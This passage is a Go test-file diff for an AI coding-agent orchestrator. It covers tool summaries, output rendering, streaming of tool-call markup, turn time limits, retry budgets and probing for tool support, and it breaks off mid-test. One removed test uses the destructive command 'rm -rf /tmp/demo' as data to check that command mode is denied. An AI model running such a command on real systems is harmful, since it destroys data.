@@ -5,9 +5,16 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"regexp"
 	"strings"
+	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -17,6 +24,8 @@ import (
 	"coder/internal/contextmgr"
 	"coder/internal/permission"
 	"coder/internal/provider"
+	"coder/internal/security"
+	"coder/internal/skills"
 	"coder/internal/storage"
 	"coder/internal/tools"
 )
@@ -105,6 +114,18 @@ func TestFormatToolStart(t *testing.T) {
 		{name: "read with range", tool: "read", args: `{"path":"README.md","offset":1,"limit":100}`, want: `* Read "README.md"[1-100]`},
 		{name: "write", tool: "write", args: `{"path":"a.txt","content":"hello"}`, want: `* Write "a.txt" (5 bytes)`},
 		{name: "bash", tool: "bash", args: `{"command":"ls -la"}`, want: `* Bash "ls -la"`},
+		{name: "git status", tool: "git_status", args: `{}`, want: `* Git status`},
+		{name: "git status short", tool: "git_status", args: `{"short":true}`, want: `* Git status (short)`},
+		{name: "git diff", tool: "git_diff", args: `{}`, want: `* Git diff`},
+		{name: "git diff staged", tool: "git_diff", args: `{"staged":true}`, want: `* Git diff (staged)`},
+		{name: "git diff path", tool: "git_diff", args: `{"path":"main.go"}`, want: `* Git diff "main.go"`},
+		{name: "git diff stat", tool: "git_diff", args: `{"stat":true}`, want: `* Git diff --stat`},
+		{name: "git log", tool: "git_log", args: `{"limit":10}`, want: `* Git log -10`},
+		{name: "git log oneline", tool: "git_log", args: `{"oneline":true}`, want: `* Git log --oneline`},
+		{name: "git add", tool: "git_add", args: `{"path":"."}`, want: `* Git add "."`},
+		{name: "git commit", tool: "git_commit", args: `{"message":"msg\n\nbody"}`, want: `* Git commit "msg"`},
+		{name: "fetch", tool: "fetch", args: `{"url":"https://example.com"}`, want: `* Fetch "https://example.com"`},
+		{name: "fetch post", tool: "fetch", args: `{"url":"https://example.com","method":"post"}`, want: `* Fetch POST "https://example.com"`},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -142,6 +163,120 @@ func TestSummarizeToolResult(t *testing.T) {
 	}
 }
 
+func TestSummarizeFetchToolResult(t *testing.T) {
+	tests := []struct {
+		name    string
+		result  string
+		matches []string
+		absent  []string
+	}{
+		{
+			name:    "html page",
+			result:  `{"url":"https://example.com/docs","method":"GET","status_code":200,"content_type":"text/html; charset=utf-8","is_image":false,"content":"# Docs\nsecond line","size_bytes":12288}`,
+			matches: []string{"GET https://example.com/docs -> 200, 12KB, text/html", "\n# Docs"},
+			absent:  []string{"second line", "charset"},
+		},
+		{
+			name:    "image",
+			result:  `{"url":"https://example.com/a.png","method":"GET","status_code":200,"content_type":"image/png","is_image":true,"content":"iVBORw0KGgo=","size_bytes":34816}`,
+			matches: []string{"GET https://example.com/a.png -> 200, image/png, 34KB (base64)"},
+			absent:  []string{"iVBORw0KGgo", "\n"},
+		},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			got := summarizeToolResult("fetch", tc.result)
+			for _, needle := range tc.matches {
+				if !strings.Contains(got, needle) {
+					t.Fatalf("missing %q in summary %q", needle, got)
+				}
+			}
+			for _, needle := range tc.absent {
+				if strings.Contains(got, needle) {
+					t.Fatalf("unexpected %q in summary %q", needle, got)
+				}
+			}
+		})
+	}
+}
+
+func TestSummarizeWriteResultCapsLargeDiff(t *testing.T) {
+	diffLines := []string{"--- a/big.txt", "+++ b/big.txt", "@@ -0,0 +1,498 @@"}
+	for i := 1; i <= 497; i++ {
+		diffLines = append(diffLines, fmt.Sprintf("+line %d", i))
+	}
+	diff := strings.Join(diffLines, "\n")
+	if len(diffLines) != 500 {
+		t.Fatalf("fixture should have 500 diff lines, got %d", len(diffLines))
+	}
+	raw := mustJSON(map[string]any{
+		"ok": true, "path": "big.txt", "size": 5000, "operation": "created",
+		"additions": 497, "deletions": 0, "diff": diff,
+	})
+
+	got := summarizeToolResultWithDiffCap("write", raw, 40)
+	lines := strings.Split(got, "\n")
+	// 1 行摘要 + 40 行 diff + 1 行截断标记
+	// 1 summary line + 40 diff lines + 1 truncation marker
+	if len(lines) != 42 {
+		t.Fatalf("expected capped summary of 42 lines, got %d", len(lines))
+	}
+	if !strings.Contains(got, "... (diff truncated, 460 more lines)") {
+		t.Fatalf("missing truncation marker: %q", got)
+	}
+	if !strings.Contains(got, "+++ b/big.txt") || !strings.HasSuffix(got, "+line 497") {
+		t.Fatalf("expected diff head and tail to be kept, got %q", got)
+	}
+	if strings.Contains(got, "+line 250\n") {
+		t.Fatalf("middle of diff should be omitted")
+	}
+
+	if full := summarizeToolResultWithDiffCap("write", raw, 1000); strings.Contains(full, "diff truncated") {
+		t.Fatalf("diff under the cap should not be truncated")
+	}
+}
+
+func TestToolResultSummaryShowsWorkspaceRelativePaths(t *testing.T) {
+	root := t.TempDir()
+	resolved := filepath.Join(root, "pkg", "main.go")
+	raw := mustJSON(map[string]any{
+		"ok": true, "path": resolved, "size": 12, "operation": "created", "additions": 1, "deletions": 0,
+	})
+
+	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(), Options{WorkspaceRoot: root})
+	got := orch.toolResultSummary("write", raw)
+	if !strings.HasPrefix(got, `created "pkg/main.go"`) {
+		t.Fatalf("expected workspace-relative path in write summary, got %q", got)
+	}
+
+	outside := mustJSON(map[string]any{"ok": true, "path": "/etc/hosts", "size": 3, "operation": "updated"})
+	if got := orch.toolResultSummary("write", outside); !strings.Contains(got, `"/etc/hosts"`) {
+		t.Fatalf("paths outside the workspace should stay absolute, got %q", got)
+	}
+
+	absolute := New(&scriptedProvider{model: "test"}, tools.NewRegistry(), Options{
+		WorkspaceRoot:   root,
+		ToolPathDisplay: config.ToolPathDisplayAbsolute,
+	})
+	if got := absolute.toolResultSummary("write", raw); !strings.Contains(got, quoteOrDash(resolved)) {
+		t.Fatalf("tool_path_display=absolute should keep the resolved path, got %q", got)
+	}
+
+	// 工具开始行与数组形式的路径字段同样显示为相对路径。
+	// Tool start lines and array path fields are shown relative too.
+	writeArgs := mustJSON(map[string]any{"path": resolved, "content": "package main\n"})
+	if got := orch.toolStartSummary("write", writeArgs); got != `* Write "pkg/main.go" (13 bytes)` {
+		t.Fatalf("expected workspace-relative path in write start line, got %q", got)
+	}
+	readArgs := mustJSON(map[string]any{"paths": []string{resolved, filepath.Join(root, "go.mod"), "/etc/hosts"}})
+	if got := orch.toolStartSummary("read_many", readArgs); got != `* Read 3 files: "pkg/main.go, go.mod, /etc/hosts"` {
+		t.Fatalf("expected workspace-relative paths in read_many start line, got %q", got)
+	}
+	if got := absolute.toolStartSummary("write", writeArgs); !strings.Contains(got, quoteOrDash(resolved)) {
+		t.Fatalf("tool_path_display=absolute should keep the start line path, got %q", got)
+	}
+}
+
 func TestRenderToolResultMultiline(t *testing.T) {
 	t.Setenv("NO_COLOR", "1")
 	var out bytes.Buffer
@@ -154,6 +289,42 @@ func TestRenderToolResultMultiline(t *testing.T) {
 	}
 }
 
+func TestRenderToolResultHonoursVerbosity(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	summary := "updated a.txt (+1 -1 lines)\n@@ -1,1 +1,1 @@\n-old\n+new"
+	tests := []struct {
+		verbosity string
+		want      []string
+		absent    []string
+	}{
+		{verbosity: config.ToolVerbosityQuiet, want: []string{"-> updated a.txt"}, absent: []string{"@@", "-old", "+new"}},
+		{verbosity: config.ToolVerbosityNormal, want: []string{"-> updated a.txt", "@@ -1,1 +1,1 @@"}, absent: []string{"-old", "+new"}},
+		{verbosity: config.ToolVerbosityVerbose, want: []string{"-> updated a.txt", "@@", "-old", "+new"}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.verbosity, func(t *testing.T) {
+			var out bytes.Buffer
+			renderToolResult(&out, applyToolVerbosity(summary, tc.verbosity))
+			rendered := out.String()
+			for _, needle := range tc.want {
+				if !strings.Contains(rendered, needle) {
+					t.Fatalf("missing %q in %s output: %q", needle, tc.verbosity, rendered)
+				}
+			}
+			for _, needle := range tc.absent {
+				if strings.Contains(rendered, needle) {
+					t.Fatalf("%s output should not contain %q: %q", tc.verbosity, needle, rendered)
+				}
+			}
+		})
+	}
+	var out bytes.Buffer
+	renderToolResult(&out, applyToolVerbosity(summary, config.ToolVerbosityQuiet))
+	if got := strings.Count(out.String(), "\n"); got != 1 {
+		t.Fatalf("quiet mode should render a single headline line, got %d lines: %q", got, out.String())
+	}
+}
+
 func TestJoinApprovalReasons(t *testing.T) {
 	tests := []struct {
 		name    string
@@ -190,6 +361,7 @@ func TestRenderToolResultDiffColorized(t *testing.T) {
 	t.Setenv("TERM", "xterm-256color")
 	t.Setenv("NO_COLOR", "")
 	t.Setenv("AGENT_NO_COLOR", "")
+	t.Setenv("FORCE_COLOR", "1")
 	var out bytes.Buffer
 	renderToolResult(&out, "updated a.txt (+1 -1 lines, 10 bytes)\n@@ -1,1 +1,1 @@\n-old\n+new")
 	rendered := out.String()
@@ -200,6 +372,40 @@ func TestRenderToolResultDiffColorized(t *testing.T) {
 	}
 }
 
+func TestRenderNonTerminalWriterHasNoANSI(t *testing.T) {
+	t.Setenv("TERM", "xterm-256color")
+	t.Setenv("NO_COLOR", "")
+	t.Setenv("AGENT_NO_COLOR", "")
+	t.Setenv("FORCE_COLOR", "")
+	t.Setenv("AGENT_FORCE_COLOR", "")
+	var out bytes.Buffer
+	renderToolStart(&out, "* Apply patch")
+	renderToolResult(&out, "updated a.txt\n@@ -1,1 +1,1 @@\n-old\n+new\n[x] done")
+	renderToolBlocked(&out, "denied")
+	renderToolError(&out, "failed")
+	renderAssistantBlock(&out, "final answer", true)
+	thinking := newThinkingStreamRenderer(&out)
+	thinking.Append("pondering")
+	thinking.Finish()
+	if strings.Contains(out.String(), "\x1b[") {
+		t.Fatalf("non-terminal output should not contain ANSI escapes: %q", out.String())
+	}
+}
+
+func TestWrapDisplayWidth(t *testing.T) {
+	if got := wrapDisplayWidth("+short", 0); len(got) != 1 {
+		t.Fatalf("width 0 should not wrap, got %q", got)
+	}
+	line := "+" + strings.Repeat("a", 49)
+	got := wrapDisplayWidth(line, 20)
+	if len(got) != 3 || got[0] != "+"+strings.Repeat("a", 19) || strings.Join(got, "") != line {
+		t.Fatalf("wrapDisplayWidth=%q, want 3 chunks of at most 20 columns", got)
+	}
+	if got := wrapDisplayWidth(strings.Repeat("中", 15), 20); len(got) != 2 || got[0] != strings.Repeat("中", 10) {
+		t.Fatalf("wide runes should count two columns, got %q", got)
+	}
+}
+
 func TestAnswerStreamRenderer(t *testing.T) {
 	t.Setenv("NO_COLOR", "1")
 	var out bytes.Buffer
@@ -219,6 +425,106 @@ func TestAnswerStreamRenderer(t *testing.T) {
 	}
 }
 
+func TestAnswerStreamRendererWithholdsToolCallMarkup(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	var out bytes.Buffer
+	renderer := newAnswerStreamRenderer(&out)
+	stream := "Let me check the kernel. a<b stays.\n<tool_call><function=bash><parameter=command>uname -s</parameter></function></tool_call>\n" +
+		"Then <FUNCTION=read><parameter=path>go.mod</parameter></function> done. <tool"
+	// 逐字节推送，覆盖标记被拆在任意位置的情况。/ Push byte by byte so markup is split at every position.
+	for i := 0; i < len(stream); i++ {
+		renderer.Append(stream[i : i+1])
+		for _, leak := range []string{"<tool_call", "<function", "<FUNCTION", "uname", "go.mod", "</"} {
+			if strings.Contains(out.String(), leak) {
+				t.Fatalf("markup %q reached the output after %d bytes: %q", leak, i+1, out.String())
+			}
+		}
+	}
+	renderer.Finish()
+	rendered := out.String()
+	for _, needle := range []string{"Let me check the kernel. a<b stays.", "Then ", " done. <tool"} {
+		if !strings.Contains(rendered, needle) {
+			t.Fatalf("missing prose %q in rendered output: %q", needle, rendered)
+		}
+	}
+
+	out.Reset()
+	renderer = newAnswerStreamRenderer(&out)
+	renderer.Append("<tool_call>{\"name\":\"bash\",\"arguments\":{\"command\":\"ls\"}}</tool_call>")
+	renderer.Finish()
+	if out.Len() != 0 {
+		t.Fatalf("a response that is only markup should render nothing, got %q", out.String())
+	}
+}
+
+func TestLongAnswerIsTruncatedOnDisplayButKeptInMessages(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	answer := "start " + strings.Repeat("x", 5000) + " TAIL-OF-ANSWER"
+	prov := &scriptedProvider{model: "test", responses: []provider.ChatResponse{{Content: answer}}}
+	orch := New(prov, tools.NewRegistry(), Options{MaxAnswerChars: 200})
+
+	var out bytes.Buffer
+	got, err := orch.RunTurn(context.Background(), "dump it", &out)
+	if err != nil {
+		t.Fatalf("RunTurn: %v", err)
+	}
+	rendered := out.String()
+	if !strings.Contains(rendered, answerTruncatedMarker) || strings.Contains(rendered, "TAIL-OF-ANSWER") {
+		t.Fatalf("displayed answer should be truncated with a marker, got %d bytes: %q", len(rendered), short(rendered, 300))
+	}
+	if got != answer {
+		t.Fatalf("RunTurn should return the full answer, got %d bytes", len(got))
+	}
+	msgs := orch.Messages()
+	if last := msgs[len(msgs)-1]; last.Role != "assistant" || last.Content != answer {
+		t.Fatalf("Messages() should keep the full answer, got role=%s len=%d", last.Role, len(last.Content))
+	}
+
+	out.Reset()
+	renderer := newAnswerStreamRenderer(&out)
+	renderer.maxChars = 10
+	renderer.Append("0123456789")
+	renderer.Append("abcdef")
+	renderer.Finish()
+	if rendered := out.String(); !strings.Contains(rendered, "0123456789\n"+answerTruncatedMarker) || strings.Contains(rendered, "abc") {
+		t.Fatalf("streamed answer should stop at the cap, got %q", rendered)
+	}
+}
+
+func TestLongReasoningIsTruncatedOnDisplay(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	reasoning := "thinking " + strings.Repeat("y", 5000) + " TAIL-OF-REASONING"
+	prov := &scriptedProvider{model: "test", responses: []provider.ChatResponse{{Content: "final answer", Reasoning: reasoning}}}
+	orch := New(prov, tools.NewRegistry(), Options{MaxReasoningChars: 200})
+
+	var out bytes.Buffer
+	got, err := orch.RunTurn(context.Background(), "think hard", &out)
+	if err != nil {
+		t.Fatalf("RunTurn: %v", err)
+	}
+	rendered := out.String()
+	if !strings.Contains(rendered, reasoningTruncatedMarker) || strings.Contains(rendered, "TAIL-OF-REASONING") {
+		t.Fatalf("displayed reasoning should be truncated with a marker, got %q", short(rendered, 300))
+	}
+	if got != "final answer" || !strings.Contains(rendered, "final answer") {
+		t.Fatalf("turn should still deliver the answer, got %q", got)
+	}
+	msgs := orch.Messages()
+	if last := msgs[len(msgs)-1]; last.Reasoning != reasoning {
+		t.Fatalf("Messages() should keep the full reasoning, got len=%d", len(last.Reasoning))
+	}
+
+	out.Reset()
+	renderer := newThinkingStreamRenderer(&out)
+	renderer.maxChars = 10
+	renderer.Append("0123456789")
+	renderer.Append("abcdef")
+	renderer.Finish()
+	if rendered := out.String(); !strings.Contains(rendered, "0123456789\n"+reasoningTruncatedMarker) || strings.Contains(rendered, "abc") {
+		t.Fatalf("streamed reasoning should stop at the cap, got %q", rendered)
+	}
+}
+
 func TestAnswerStreamRendererCompactsExtraBlankLines(t *testing.T) {
 	t.Setenv("NO_COLOR", "1")
 	var out bytes.Buffer
@@ -263,7 +569,7 @@ func TestFormatBangCommandResult(t *testing.T) {
 }
 
 func TestRunInputBangBypassesProviderAndPersistsContext(t *testing.T) {
-	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20))
+	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20, nil))
 	orch := New(nil, registry, Options{})
 
 	got, err := orch.RunInput(context.Background(), "! printf 'hello'", nil)
@@ -329,319 +635,1706 @@ func TestRunTurnStopsImmediatelyOnToolContextCancel(t *testing.T) {
 	}
 }
 
-func TestRunInputBangDeniedPersistsResult(t *testing.T) {
-	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20))
-	orch := New(nil, registry, Options{
-		ActiveAgent: agent.Profile{
-			Name: "test-agent",
-			ToolEnabled: map[string]bool{
-				"bash": false,
+func TestRunTurnStopsAtMaxTurnDuration(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{
+				Content:   "Starting the slow check.",
+				ToolCalls: []chat.ToolCall{{ID: "call_slow", Type: "function", Function: chat.ToolCallFunction{Name: "bash", Arguments: `{"command":"sleep 60"}`}}},
 			},
 		},
+	}
+	orch := New(prov, tools.NewRegistry(&cancelAwareTool{name: "bash"}), Options{
+		MaxSteps:        4,
+		MaxTurnDuration: 50 * time.Millisecond,
+		ActiveAgent:     agent.Profile{Name: "build", ToolEnabled: map[string]bool{"bash": true}},
 	})
 
-	got, err := orch.RunInput(context.Background(), "! rm -rf /tmp/demo", nil)
+	started := time.Now()
+	got, err := orch.RunTurn(context.Background(), "run the slow check", nil)
 	if err != nil {
-		t.Fatalf("RunInput failed: %v", err)
+		t.Fatalf("RunTurn: %v", err)
 	}
-	if !strings.Contains(got, "command mode denied") {
-		t.Fatalf("unexpected output: %q", got)
+	if elapsed := time.Since(started); elapsed > 2*time.Second {
+		t.Fatalf("turn took %s, expected it to stop near the 50ms limit", elapsed)
 	}
-	if len(orch.messages) != 2 {
-		t.Fatalf("unexpected message count: %d", len(orch.messages))
+	if !strings.HasPrefix(got, "Starting the slow check.") || !strings.Contains(got, "Turn time limit reached (50ms)") {
+		t.Fatalf("unexpected result: %q", got)
 	}
-	if orch.messages[1].Role != "assistant" || !strings.Contains(orch.messages[1].Content, "command mode denied") {
-		t.Fatalf("unexpected assistant message: %+v", orch.messages[1])
+	var toolResult string
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" && msg.ToolCallID == "call_slow" {
+			toolResult = msg.Content
+		}
+	}
+	if !strings.Contains(toolResult, `"error_code":"timeout"`) {
+		t.Fatalf("expected the unfinished call to get a timeout result, got %q", toolResult)
+	}
+	if last := orch.messages[len(orch.messages)-1]; last.Role != "assistant" || !strings.Contains(last.Content, "Turn time limit reached") {
+		t.Fatalf("expected time limit notice as last message, got %+v", last)
 	}
 }
 
-func TestRunInputBangRespectsPolicyPreset(t *testing.T) {
-	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20))
-	pol := permission.New(config.PermissionConfig{Default: "ask", Bash: map[string]string{"*": "ask"}})
-	approvalCalls := 0
-	orch := New(nil, registry, Options{
-		Policy: pol,
-		OnApproval: func(_ context.Context, req tools.ApprovalRequest) (bool, error) {
-			approvalCalls++
-			if req.Tool != "bash" {
-				t.Fatalf("unexpected approval tool: %s", req.Tool)
-			}
-			return true, nil
+func TestRunTurnTimeLimitClosesToolCallsAfterCompaction(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{
+				Content:   "Starting the slow check.",
+				ToolCalls: []chat.ToolCall{{ID: "call_slow", Type: "function", Function: chat.ToolCallFunction{Name: "bash", Arguments: `{"command":"sleep 60"}`}}},
+			},
 		},
-	})
-	orch.SetMode("plan")
-
-	got, err := orch.RunInput(context.Background(), "! echo hi", nil)
-	if err != nil {
-		t.Fatalf("RunInput failed: %v", err)
-	}
-	if strings.Contains(strings.ToLower(got), "command mode denied") {
-		t.Fatalf("echo should be approval-based (not hard denied), got: %q", got)
-	}
-	if approvalCalls == 0 {
-		t.Fatal("expected approval callback for ask command")
 	}
+	orch := New(prov, tools.NewRegistry(&cancelAwareTool{name: "bash"}), Options{
+		MaxSteps:          4,
+		MaxTurnDuration:   50 * time.Millisecond,
+		ContextTokenLimit: 1000,
+		Compaction:        config.CompactionConfig{Auto: true, Threshold: 0.1, RecentMessages: 4},
+		ActiveAgent:       agent.Profile{Name: "build", ToolEnabled: map[string]bool{"bash": true}},
+	})
+	// 足够长的历史让回合开始时的自动压缩把消息数缩到回合开始前的下标以下。
+	// Enough history that auto-compaction at the start of the turn shrinks messages below the pre-turn length.
+	var history []chat.Message
+	for i := 0; i < 20; i++ {
+		history = append(history,
+			chat.Message{Role: "user", Content: fmt.Sprintf("question %d %s", i, strings.Repeat("x", 200))},
+			chat.Message{Role: "assistant", Content: fmt.Sprintf("answer %d %s", i, strings.Repeat("y", 200))})
+	}
+	orch.LoadMessages(history)
 
-	got, err = orch.RunInput(context.Background(), "! ls", nil)
+	got, err := orch.RunTurn(context.Background(), "run the slow check", nil)
 	if err != nil {
-		t.Fatalf("RunInput failed: %v", err)
+		t.Fatalf("RunTurn: %v", err)
 	}
-	if strings.Contains(strings.ToLower(got), "command mode denied") {
-		t.Fatalf("ls should be allowed in plan whitelist, got: %q", got)
+	if orch.lastCompaction == "" || len(orch.messages) >= len(history) {
+		t.Fatalf("expected auto-compaction during the turn, got %d messages", len(orch.messages))
 	}
-}
-
-func TestCurrentContextStats(t *testing.T) {
-	orch := New(nil, tools.NewRegistry(), Options{
-		ContextTokenLimit: 1000,
-	})
-	orch.LoadMessages([]chat.Message{
-		{Role: "user", Content: "hello"},
-		{Role: "assistant", Content: "world"},
-	})
-	stats := orch.CurrentContextStats()
-	if stats.ContextLimit != 1000 {
-		t.Fatalf("limit=%d", stats.ContextLimit)
+	if !strings.HasPrefix(got, "Starting the slow check.") {
+		t.Fatalf("expected the partial answer from the compacted turn, got %q", got)
 	}
-	if stats.EstimatedTokens <= 0 {
-		t.Fatalf("estimated=%d", stats.EstimatedTokens)
+	answered := false
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" && msg.ToolCallID == "call_slow" && strings.Contains(msg.Content, `"error_code":"timeout"`) {
+			answered = true
+		}
 	}
-	if stats.MessageCount != 3 {
-		t.Fatalf("message count=%d", stats.MessageCount)
+	if !answered {
+		t.Fatalf("the in-flight tool call must get a timeout result after compaction, messages=%+v", orch.messages)
 	}
 }
 
-func TestRunAutoVerifyAppendsValidToolSequence(t *testing.T) {
-	registry := tools.NewRegistry(
-		mockTool{name: "bash", result: `{"ok":true,"exit_code":0,"duration_ms":1,"stdout":"","stderr":""}`},
+func TestRunTurnOmitsToolsWhenProbeFindsNoToolSupport(t *testing.T) {
+	var (
+		mu              sync.Mutex
+		probes          int
+		streamWithTools []bool
+		sawInstructions []bool
 	)
-	orch := New(nil, registry, Options{})
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var body struct {
+			Stream   bool           `json:"stream"`
+			Tools    []any          `json:"tools"`
+			Messages []chat.Message `json:"messages"`
+		}
+		_ = json.NewDecoder(r.Body).Decode(&body)
+		mu.Lock()
+		defer mu.Unlock()
+		if !body.Stream {
+			probes++
+			if len(body.Tools) > 0 {
+				http.Error(w, `{"error":{"message":"tools are not supported by this model"}}`, http.StatusBadRequest)
+				return
+			}
+			fmt.Fprint(w, `{"choices":[{"message":{"role":"assistant","content":"p"}}]}`)
+			return
+		}
+		instructed := false
+		for _, msg := range body.Messages {
+			if msg.Role == "system" && strings.Contains(msg.Content, "does not support native tool calling") {
+				instructed = true
+			}
+		}
+		streamWithTools = append(streamWithTools, len(body.Tools) > 0)
+		sawInstructions = append(sawInstructions, instructed)
+		content := "done"
+		if len(streamWithTools) == 1 {
+			content = `<tool_call>{\"name\":\"plain\",\"arguments\":{}}</tool_call>`
+		}
+		w.Header().Set("Content-Type", "text/event-stream")
+		fmt.Fprintf(w, "data: {\"choices\":[{\"delta\":{\"content\":\"%s\"},\"finish_reason\":\"stop\"}]}\n\n", content)
+		fmt.Fprint(w, "data: [DONE]\n\n")
+	}))
+	defer srv.Close()
 
-	passed, retryable, err := orch.runAutoVerify(context.Background(), "go test ./...", 1, nil)
-	if err != nil {
-		t.Fatalf("runAutoVerify failed: %v", err)
-	}
-	if !passed {
-		t.Fatalf("expected passed=true")
+	prov := provider.NewOpenAIProvider(provider.OpenAIConfig{BaseURL: srv.URL, Model: "no-tools-model", MaxRetries: 1})
+	orch := New(prov, tools.NewRegistry(mockTool{name: "plain", result: `{"ok":true}`}), Options{
+		MaxSteps:    3,
+		ActiveAgent: agent.Profile{Name: "build", ToolEnabled: map[string]bool{"plain": true}},
+	})
+	if _, err := orch.RunTurn(context.Background(), "run plain tool", nil); err != nil {
+		t.Fatalf("first RunTurn: %v", err)
 	}
-	if retryable {
-		t.Fatalf("expected retryable=false when verify passed")
+	if _, err := orch.RunTurn(context.Background(), "run plain tool again", nil); err != nil {
+		t.Fatalf("second RunTurn: %v", err)
 	}
-	if len(orch.messages) != 2 {
-		t.Fatalf("unexpected message count: %d", len(orch.messages))
+
+	mu.Lock()
+	defer mu.Unlock()
+	if probes != 2 {
+		t.Fatalf("probe requests = %d, want 2 (with and without tools, cached afterwards)", probes)
 	}
-	if orch.messages[0].Role != "assistant" || len(orch.messages[0].ToolCalls) != 1 {
-		t.Fatalf("unexpected assistant tool call message: %+v", orch.messages[0])
+	if len(streamWithTools) != 3 {
+		t.Fatalf("chat requests = %d, want 3", len(streamWithTools))
 	}
-	if orch.messages[0].ToolCalls[0].Function.Name != "bash" {
-		t.Fatalf("unexpected tool call name: %+v", orch.messages[0].ToolCalls[0])
+	for i := range streamWithTools {
+		if streamWithTools[i] || !sawInstructions[i] {
+			t.Fatalf("request %d: tools sent=%v, markup instructions=%v", i, streamWithTools[i], sawInstructions[i])
+		}
 	}
-	if orch.messages[1].Role != "tool" || orch.messages[1].Name != "bash" {
-		t.Fatalf("unexpected tool message: %+v", orch.messages[1])
+	var toolResult string
+	for _, msg := range orch.messages {
+		if msg.Role == "tool" {
+			toolResult = msg.Content
+		}
 	}
-	if orch.messages[1].ToolCallID != orch.messages[0].ToolCalls[0].ID {
-		t.Fatalf("tool_call_id mismatch: assistant=%q tool=%q", orch.messages[0].ToolCalls[0].ID, orch.messages[1].ToolCallID)
+	if toolResult != `{"ok":true}` {
+		t.Fatalf("expected the recovered tool call to run, got tool result %q", toolResult)
 	}
 }
 
-func TestRunAutoVerifyMarksStartupFailureNonRetryable(t *testing.T) {
-	registry := tools.NewRegistry(
-		mockTool{name: "bash", result: `{"ok":false,"exit_code":1,"duration_ms":2,"stdout":"","stderr":"/Users/demo/.profile: line 4: /Users/demo/.langflow/uv/env: No such file or directory"}`},
+func TestMaxRetriesPerTurnAbortsTurnOnceBudgetIsSpent(t *testing.T) {
+	var (
+		mu               sync.Mutex
+		successes        int
+		hitsSinceSuccess int
 	)
-	orch := New(nil, registry, Options{})
+	// 前两个步骤各先失败一次（compat 流与 SDK 回退各一次请求）再成功；第三步一直失败。
+	// The first two steps each fail one attempt (a compat stream plus its SDK fallback request) before succeeding;
+	// the third step keeps failing.
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var body struct {
+			Stream bool `json:"stream"`
+		}
+		_ = json.NewDecoder(r.Body).Decode(&body)
+		if !body.Stream {
+			fmt.Fprint(w, `{"choices":[{"message":{"role":"assistant","content":"p"}}]}`)
+			return
+		}
+		mu.Lock()
+		defer mu.Unlock()
+		if successes >= 2 || hitsSinceSuccess < 2 {
+			hitsSinceSuccess++
+			http.Error(w, `{"error":{"message":"upstream overloaded"}}`, http.StatusBadGateway)
+			return
+		}
+		successes++
+		hitsSinceSuccess = 0
+		w.Header().Set("Content-Type", "text/event-stream")
+		fmt.Fprintf(w, "data: {\"choices\":[{\"delta\":{\"tool_calls\":[{\"index\":0,\"id\":\"call_%d\",\"type\":\"function\",\"function\":{\"name\":\"plain\",\"arguments\":\"{}\"}}]},\"finish_reason\":\"tool_calls\"}]}\n\n", successes)
+		fmt.Fprint(w, "data: [DONE]\n\n")
+	}))
+	defer srv.Close()
 
-	passed, retryable, err := orch.runAutoVerify(context.Background(), "go test ./...", 1, nil)
-	if err != nil {
-		t.Fatalf("runAutoVerify failed: %v", err)
-	}
-	if passed {
-		t.Fatalf("expected passed=false")
-	}
-	if retryable {
-		t.Fatalf("expected retryable=false for shell startup failure")
+	prov := provider.NewOpenAIProvider(provider.OpenAIConfig{BaseURL: srv.URL, Model: "flaky-model", MaxRetries: 3})
+	orch := New(prov, tools.NewRegistry(mockTool{name: "plain", result: `{"ok":true}`}), Options{
+		MaxSteps:          10,
+		MaxRetriesPerTurn: 2,
+		ActiveAgent:       agent.Profile{Name: "build", ToolEnabled: map[string]bool{"plain": true}},
+	})
+	_, err := orch.RunTurn(context.Background(), "run plain tool", nil)
+	if !errors.Is(err, provider.ErrRetryBudgetExhausted) {
+		t.Fatalf("expected the turn to fail with an exhausted retry budget, got %v", err)
 	}
-}
 
-func TestShouldAutoVerifyEditedPaths(t *testing.T) {
-	if !shouldAutoVerifyEditedPaths(nil) {
-		t.Fatalf("expected true when path list is empty")
-	}
-	if shouldAutoVerifyEditedPaths([]string{"docs/USAGE.md", "README.md"}) {
-		t.Fatalf("expected false for docs-only edits")
+	mu.Lock()
+	defer mu.Unlock()
+	if successes != 2 {
+		t.Fatalf("the two retries should let the first two steps through, successes=%d", successes)
 	}
-	if !shouldAutoVerifyEditedPaths([]string{"docs/USAGE.md", "internal/orchestrator/orchestrator.go"}) {
-		t.Fatalf("expected true when at least one non-doc path is edited")
+	if hitsSinceSuccess != 2 {
+		t.Fatalf("once the budget is spent the failing step must not retry, requests after last success=%d", hitsSinceSuccess)
 	}
 }
 
-func TestEditedPathFromToolCallWrite(t *testing.T) {
-	args := mustJSON(map[string]any{
-		"path":    "internal/tools/read.go",
-		"content": "test",
+func TestRunTurnWrapsNonJSONToolResult(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_plain", Type: "function", Function: chat.ToolCallFunction{Name: "plain", Arguments: `{}`}}}},
+			{Content: "done"},
+		},
+	}
+	orch := New(prov, tools.NewRegistry(mockTool{name: "plain", result: "bare text output"}), Options{
+		MaxSteps: 3,
